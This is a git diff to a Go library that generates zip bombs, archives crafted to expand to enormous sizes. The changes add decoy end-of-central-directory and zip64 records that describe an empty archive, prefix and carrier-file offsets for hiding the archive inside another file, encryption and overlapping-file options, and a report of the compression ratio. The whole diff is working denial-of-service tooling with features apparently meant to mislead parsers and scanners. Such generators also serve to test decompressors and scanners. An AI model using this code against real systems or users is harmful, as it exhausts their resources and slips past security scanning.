@@ -2,19 +2,70 @@ package zipbomb
 
 import (
 	"bufio"
+	"crypto/sha256"
 	"encoding/binary"
+	"encoding/hex"
 	"errors"
+	"hash"
 	"io"
 )
 
 var (
-	errLongName    = errors.New("name too long")
-	errLongExtra   = errors.New("extra too long")
-	errLongComment = errors.New("comment too long")
+	errLongName         = errors.New("name too long")
+	errLongExtra        = errors.New("extra too long")
+	errLongComment      = errors.New("comment too long")
+	errMethod           = errors.New("unsupported compression method")
+	errLongExcess       = errors.New("too many files for extra-field escaping")
+	errSymlinkWrite     = errors.New("filename written through a symlink needs a directory")
+	errDescriptor       = errors.New("data descriptors are not supported by overlapping files")
+	errEncryptedOverlap = errors.New("encryption is not supported by overlapping files")
+	errTimestampRange   = errors.New("time out of range of the extended timestamp")
+	errFiletimeRange    = errors.New("time out of range of the NTFS extra field")
 )
 
 type Options struct {
 	EOCDComment string
+
+	// EntryComment is the comment of entries in the central directory that
+	// have no comment of their own.
+	EntryComment string
+
+	// DecoyEOCD writes a second end of central directory record that
+	// describes an empty archive.
+	DecoyEOCD DecoyEOCD
+
+	// DecoyZip64 writes a zip64 end of central directory record and locator
+	// in front of the decoy end of central directory record.
+	DecoyZip64 bool
+
+	// Prefix is written before the first local header.
+	Prefix []byte
+
+	// UnadjustedPrefixOffsets makes all offsets relative to the end of the
+	// prefix instead of the start of the file.
+	UnadjustedPrefixOffsets bool
+
+	// BaseOffset is the number of bytes that precede the archive in the
+	// output, e.g. a carrier file the caller has written to w before New.
+	// All offsets are shifted by it.
+	BaseOffset int64
+
+	// ForceZip64 makes every entry and the end records use zip64.
+	ForceZip64 bool
+
+	// Zip64Extra is the layout of the zip64 extra blocks.
+	Zip64Extra Zip64Extra
+
+	// UTF8Flag controls the language encoding flag (bit 11).
+	UTF8Flag UTF8Flag
+
+	// UnicodeExtra adds Info-ZIP Unicode Path and Unicode Comment extra
+	// fields to entries with non-ASCII names or comments.
+	UnicodeExtra bool
+
+	// Workers is the number of goroutines that deflate kernels which are not
+	// repeat kernels.
+	Workers int
 }
 
 type cdHeader struct {
@@ -23,11 +74,21 @@ type cdHeader struct {
 }
 
 type ZipBomb struct {
+	bw               *bufio.Writer
 	cw               *countWriter
+	sha256           hash.Hash
 	dir              []*cdHeader //central directory
 	uncompressedSize int64
 	zip64            bool
 	opts             Options
+
+	// nameSavings is the number of bytes the filenames save over the
+	// default filenames.
+	nameSavings int64
+
+	// base is subtracted from the write position to get offsets. It is
+	// configured by BaseOffset and UnadjustedPrefixOffsets.
+	base int64
 }
 
 // New returns a new zip bomb.
@@ -38,31 +99,99 @@ func New(w io.Writer, optFns ...func(o *Options)) (*ZipBomb, error) {
 		fn(&opts)
 	}
 
-	if len(opts.EOCDComment) > uint16max {
+	if len(opts.EOCDComment) > uint16max || len(opts.EntryComment) > uint16max {
 		return nil, errLongComment
 	}
 
-	return &ZipBomb{
-		cw:   &countWriter{w: bufio.NewWriter(w)},
-		opts: opts,
-	}, nil
+	// the decoy in the comment needs room before the archive is written
+	if opts.DecoyEOCD == DecoyEOCDComment && len(opts.EOCDComment)+decoyEOCDLen(opts.DecoyZip64) > uint16max {
+		return nil, errLongComment
+	}
+
+	bw := bufio.NewWriter(w)
+	h := sha256.New()
+
+	zb := &ZipBomb{
+		bw:     bw,
+		cw:     &countWriter{w: io.MultiWriter(bw, h)},
+		sha256: h,
+		opts:   opts,
+	}
+
+	if _, err := zb.cw.Write(opts.Prefix); err != nil {
+		return nil, err
+	}
+
+	zb.base = -opts.BaseOffset
+
+	if opts.UnadjustedPrefixOffsets {
+		zb.base += int64(len(opts.Prefix))
+	}
+
+	return zb, nil
 }
 
 type fileRecord struct {
 	header *fileHeader
-	data   []byte
+	data   io.WriterTo
+
+	// central replaces the header in the central directory, if set.
+	central *fileHeader
+
+	// dataDescriptor moves sizes and CRC-32 of the local header into a data
+	// descriptor after the data.
+	dataDescriptor DataDescriptor
+
+	// encryption encrypts the data if it has a password.
+	encryption EncryptionOptions
 }
 
 func (zb *ZipBomb) writeFiles(files []fileRecord) error {
 	for _, file := range files {
+		header := file.header
+
+		central := file.header
+		if file.central != nil {
+			central = file.central
+		}
+
+		if hasExtra(central.Extra, extTimeExtraID) {
+			c := *central
+			c.Extra = centralTimestampExtra(central.Extra)
+			central = &c
+		}
+
+		zb.prepareHeader(header)
+		zb.prepareHeader(central)
+
+		data := file.data
+
+		if file.encryption.Password != "" {
+			header, central, data = file.encryption.encrypt(header, central, data, file.dataDescriptor != NoDataDescriptor)
+		}
+
+		var descriptor []byte
+
+		if file.dataDescriptor != NoDataDescriptor {
+			header, descriptor = header.withDataDescriptor(file.dataDescriptor)
+
+			c := *central
+			c.Flags |= flagDataDescriptor
+			central = &c
+		}
+
+		if len(central.Comment) > uint16max {
+			return errLongComment
+		}
+
 		cdHeader := &cdHeader{
-			fileHeader: file.header,
-			offset:     uint64(zb.cw.count),
+			fileHeader: central,
+			offset:     uint64(zb.offset()),
 		}
 
 		zb.dir = append(zb.dir, cdHeader)
 
-		headerBytes, err := file.header.MarshalBinary()
+		headerBytes, err := header.MarshalBinary()
 		if err != nil {
 			return err
 		}
@@ -71,7 +200,13 @@ func (zb *ZipBomb) writeFiles(files []fileRecord) error {
 			return err
 		}
 
-		if _, err := zb.cw.Write(file.data); err != nil {
+		if data != nil {
+			if _, err := data.WriteTo(zb.cw); err != nil {
+				return err
+			}
+		}
+
+		if _, err := zb.cw.Write(descriptor); err != nil {
 			return err
 		}
 	}
@@ -87,9 +222,45 @@ func (zb *ZipBomb) IsZip64() bool {
 	return zb.zip64
 }
 
+// Report describes a written zip bomb.
+type Report struct {
+	SHA256           string  `json:"sha256" yaml:"sha256"`
+	CompressedSize   int64   `json:"compressed_size" yaml:"compressed_size"`
+	UncompressedSize int64   `json:"uncompressed_size" yaml:"uncompressed_size"`
+	Ratio            float64 `json:"ratio" yaml:"ratio"`
+	Zip64            bool    `json:"zip64" yaml:"zip64"`
+	Entries          int     `json:"entries" yaml:"entries"`
+
+	// RatioGain is the ratio relative to the same archive with the default
+	// filenames. It is zero if the filenames are the default ones.
+	RatioGain float64 `json:"ratio_gain,omitempty" yaml:"ratio_gain,omitempty"`
+}
+
+// Report returns a report of the zip bomb. The SHA-256 and the compressed
+// size are only complete after Close has been called.
+func (zb *ZipBomb) Report() *Report {
+	r := &Report{
+		SHA256:           hex.EncodeToString(zb.sha256.Sum(nil)),
+		CompressedSize:   zb.cw.count,
+		UncompressedSize: zb.uncompressedSize,
+		Zip64:            zb.zip64,
+		Entries:          len(zb.dir),
+	}
+
+	if r.CompressedSize > 0 {
+		r.Ratio = float64(r.UncompressedSize) / float64(r.CompressedSize)
+
+		if zb.nameSavings != 0 {
+			r.RatioGain = float64(r.CompressedSize+zb.nameSavings) / float64(r.CompressedSize)
+		}
+	}
+
+	return r
+}
+
 func (zb *ZipBomb) Close() error {
 	// write central directory
-	start := zb.cw.count
+	start := zb.offset()
 
 	for _, h := range zb.dir {
 		var buf [directoryHeaderLen]byte
@@ -103,38 +274,22 @@ func (zb *ZipBomb) Close() error {
 		b.uint16(h.ModifiedDate)
 		b.uint32(h.CRC32)
 
+		compressed, uncompressed, offset, extra := h.CompressedSize, h.UncompressedSize, uint32(h.offset), h.Extra
+
 		if h.IsZip64() || h.offset >= uint32max {
-			// the file needs a zip64 header. store maxint in both
-			// 32 bit size fields (and offset later) to signal that the
-			// zip64 extra header should be used.
-			b.uint32(uint32max) // compressed size
-			b.uint32(uint32max) // uncompressed size
-
-			// append a zip64 extra block to Extra
-			var buf [28]byte // 2x uint16 + 3x uint64
-			eb := writeBuf(buf[:])
-			eb.uint16(zip64ExtraID)
-			eb.uint16(24) // size = 3x uint64
-			eb.uint64(h.UncompressedSize64)
-			eb.uint64(h.CompressedSize64)
-			eb.uint64(h.offset)
-			h.Extra = append(h.Extra, buf[:]...)
-		} else {
-			b.uint32(h.CompressedSize)
-			b.uint32(h.UncompressedSize)
+			// the file needs a zip64 header. store maxint in the 32 bit
+			// fields to signal that the zip64 extra header should be used.
+			compressed, uncompressed, offset, extra = h.centralZip64(h.offset)
 		}
 
+		b.uint32(compressed)
+		b.uint32(uncompressed)
 		b.uint16(uint16(len(h.Name)))
-		b.uint16(uint16(len(h.Extra)))
+		b.uint16(uint16(len(extra)))
 		b.uint16(uint16(len(h.Comment)))
 		b = b[4:] // skip disk number start and internal file attr (2x uint16)
 		b.uint32(h.ExternalAttrs)
-
-		if h.offset > uint32max {
-			b.uint32(uint32max)
-		} else {
-			b.uint32(uint32(h.offset))
-		}
+		b.uint32(offset)
 
 		if _, err := zb.cw.Write(buf[:]); err != nil {
 			return err
@@ -144,7 +299,7 @@ func (zb *ZipBomb) Close() error {
 			return err
 		}
 
-		if _, err := zb.cw.Write(h.Extra); err != nil {
+		if _, err := zb.cw.Write(extra); err != nil {
 			return err
 		}
 
@@ -153,13 +308,13 @@ func (zb *ZipBomb) Close() error {
 		}
 	}
 
-	end := zb.cw.count
+	end := zb.offset()
 
 	records := uint64(len(zb.dir))
 	size := uint64(end - start)
 	offset := uint64(start)
 
-	if records >= uint16max || size >= uint32max || offset >= uint32max {
+	if zb.opts.ForceZip64 || records >= uint16max || size >= uint32max || offset >= uint32max {
 		zb.zip64 = true
 
 		var buf [directory64EndLen + directory64LocLen]byte
@@ -194,26 +349,65 @@ func (zb *ZipBomb) Close() error {
 		offset = uint32max
 	}
 
+	comment := []byte(zb.opts.EOCDComment)
+
+	var decoy []byte
+	if zb.opts.DecoyEOCD != NoDecoyEOCD {
+		// the decoy follows the end record and its comment
+		decoy = zb.decoyEOCD(zb.offset() + directoryEndLen + int64(len(comment)))
+	}
+
+	if zb.opts.DecoyEOCD == DecoyEOCDComment {
+		comment = append(comment, decoy...)
+		decoy = nil
+
+		if len(comment) > uint16max {
+			return errLongComment
+		}
+	}
+
 	// write end record
-	var buf [directoryEndLen]byte
-	b := writeBuf(buf[:])
-	b.uint32(uint32(directoryEndSignature))
-	b = b[4:]                                  // skip over disk number and first disk number (2x uint16)
-	b.uint16(uint16(records))                  // number of entries this disk
-	b.uint16(uint16(records))                  // number of entries total
-	b.uint32(uint32(size))                     // size of directory
-	b.uint32(uint32(offset))                   // start of directory
-	b.uint16(uint16(len(zb.opts.EOCDComment))) // byte size of EOCD comment
-
-	if _, err := zb.cw.Write(buf[:]); err != nil {
+	if _, err := zb.cw.Write(directoryEnd(records, size, offset, comment)); err != nil {
 		return err
 	}
 
-	if _, err := io.WriteString(zb.cw, zb.opts.EOCDComment); err != nil {
+	if _, err := zb.cw.Write(decoy); err != nil {
 		return err
 	}
 
-	return zb.cw.w.(*bufio.Writer).Flush()
+	return zb.bw.Flush()
+}
+
+// prepareHeader applies the archive options to h. Headers that are quoted by
+// overlapping files need it before they are marshaled.
+func (zb *ZipBomb) prepareHeader(h *fileHeader) {
+	if h.Comment == "" {
+		h.Comment = zb.opts.EntryComment
+	}
+
+	zb.applyUnicode(h)
+	zb.applyZip64(h)
+}
+
+// offset returns the current offset for headers and directory records.
+func (zb *ZipBomb) offset() int64 {
+	return zb.cw.count - zb.base
+}
+
+// directoryEnd returns an end of central directory record.
+func directoryEnd(records, size, offset uint64, comment []byte) []byte {
+	buf := make([]byte, directoryEndLen+len(comment))
+	b := writeBuf(buf)
+	b.uint32(uint32(directoryEndSignature))
+	b = b[4:]                      // skip over disk number and first disk number (2x uint16)
+	b.uint16(uint16(records))      // number of entries this disk
+	b.uint16(uint16(records))      // number of entries total
+	b.uint32(uint32(size))         // size of directory
+	b.uint32(uint32(offset))       // start of directory
+	b.uint16(uint16(len(comment))) // byte size of EOCD comment
+	copy(b, comment)
+
+	return buf
 }
 
 type countWriter struct {